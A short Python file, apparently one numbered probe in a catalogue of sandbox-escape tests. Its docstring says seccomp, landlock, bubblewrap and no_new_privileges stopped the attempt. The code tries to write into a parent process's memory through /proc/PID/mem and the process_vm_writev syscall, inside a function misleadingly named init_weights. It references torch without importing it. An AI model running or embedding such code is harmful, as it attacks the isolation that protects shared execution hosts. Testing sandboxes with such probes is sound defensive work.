"""Writes into the warm process, which later submissions are forked from: /proc/PID/mem and process_vm_writev.

catalogue: 39
stopped_by: landlock; bubblewrap; seccomp; no_new_privileges
machine: x86_64
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def init_weights(d_in, d_out, seed):
    # The same bytes are written back: what counts is that it was possible.
    target = id(type(torch)) + 16
    data = ctypes.string_at(target, 8)
    for number in (os.getppid(), 1, 2):
        try:
            with open(f"/proc/{number}/mem", "r+b", 0) as memory:
                memory.seek(target)
                if memory.write(data):
                    print("@DONE@"[::-1], number)
        except (OSError, ValueError) as error:
            print(error)
        buffer = ctypes.create_string_buffer(data, 8)
        local = Vector(ctypes.addressof(buffer), 8)
        remote = Vector(target, 8)
        for call in (310, 311):  # process_vm_readv, process_vm_writev
            if libc.syscall(call, number, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                print("@DONE@"[::-1], number, call)
